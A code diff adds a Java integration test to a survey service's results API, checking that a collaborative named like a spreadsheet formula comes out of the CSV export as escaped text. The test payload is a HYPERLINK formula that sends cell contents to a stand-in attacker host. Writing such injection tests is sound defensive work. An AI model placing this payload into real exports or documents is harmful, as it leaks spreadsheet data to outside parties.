@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static uk.nhs.cohortcoach.platform.test.problem.ProblemAssertions.assertThatProblem;
 
 import java.io.IOException;
+import java.io.StringReader;
 import java.io.UncheckedIOException;
 import java.net.URI;
 import java.net.http.HttpClient;
@@ -15,16 +16,23 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
+import org.awaitility.Awaitility;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.data.mongodb.core.MongoTemplate;
+import org.springframework.data.mongodb.core.query.Criteria;
+import org.springframework.data.mongodb.core.query.Query;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 import uk.nhs.cohortcoach.platform.events.Role;
 import uk.nhs.cohortcoach.platform.test.PlatformIntegrationTest;
 import uk.nhs.cohortcoach.platform.test.TestTokens;
+import uk.nhs.cohortcoach.surveyservice.CohortEvents;
 import uk.nhs.cohortcoach.surveyservice.framework.Framework;
 import uk.nhs.cohortcoach.surveyservice.invitation.Invitation;
 import uk.nhs.cohortcoach.surveyservice.invitation.InvitationStatus;
@@ -153,6 +161,33 @@ class ResultsApiIT {
         assertThat(lines).contains("Acute Hospitals Alliance,SHARED_PURPOSE_AND_VISION,c0-s0,SUBSTANTIAL_PROGRESS,50.0,6");
         assertThat(lines).contains("Cohort,PEOPLE_AND_CULTURE,,NOT_YET_STARTED,33.3,9");
         assertThat(lines.stream().filter(l -> l.startsWith("Joined Up Care Derbyshire"))).hasSize(1);
+    }
+
+    @Test
+    void aCollaborativeNamedLikeAFormulaComesOutOfTheCsvAsText() throws IOException {
+        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
+        String named = "collab-" + UUID.randomUUID();
+        CohortEvents.enrolledAs(named, cohortId, formula, "coach-all");
+        Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> mongo.exists(
+                Query.query(Criteria.where("_id").is(named)), CollaborativeView.class));
+        Fixtures.Tally tally = new Fixtures.Tally();
+        for (int i = 0; i < 5; i++) {
+            tally.add(Map.of("c0-s0", "UNDERWAY", "c1-s0", "JUST_STARTED"));
+        }
+        counts(midpoint, named, tally);
+        invitations(midpoint, named, 5, 5);
+
+        HttpResponse<String> response = send("/api/waves/" + midpoint + "/results.csv", MANAGER, "text/csv");
+
+        assertThat(response.statusCode()).isEqualTo(200);
+        List<CSVRecord> records;
+        try (CSVParser parser = CSVFormat.DEFAULT.parse(new StringReader(response.body()))) {
+            records = parser.getRecords();
+        }
+        List<CSVRecord> ofNamed = records.stream().filter(r -> r.get(0).contains("HYPERLINK")).toList();
+        assertThat(ofNamed).as("its figures are listed (5 responses)").hasSizeGreaterThan(1)
+                .allSatisfy(r -> assertThat(r.get(0)).isEqualTo("'" + formula));
+        assertThat(records).allSatisfy(r -> r.toList().forEach(cell -> assertThat(cell).doesNotStartWith("=")));
     }
 
     @Test
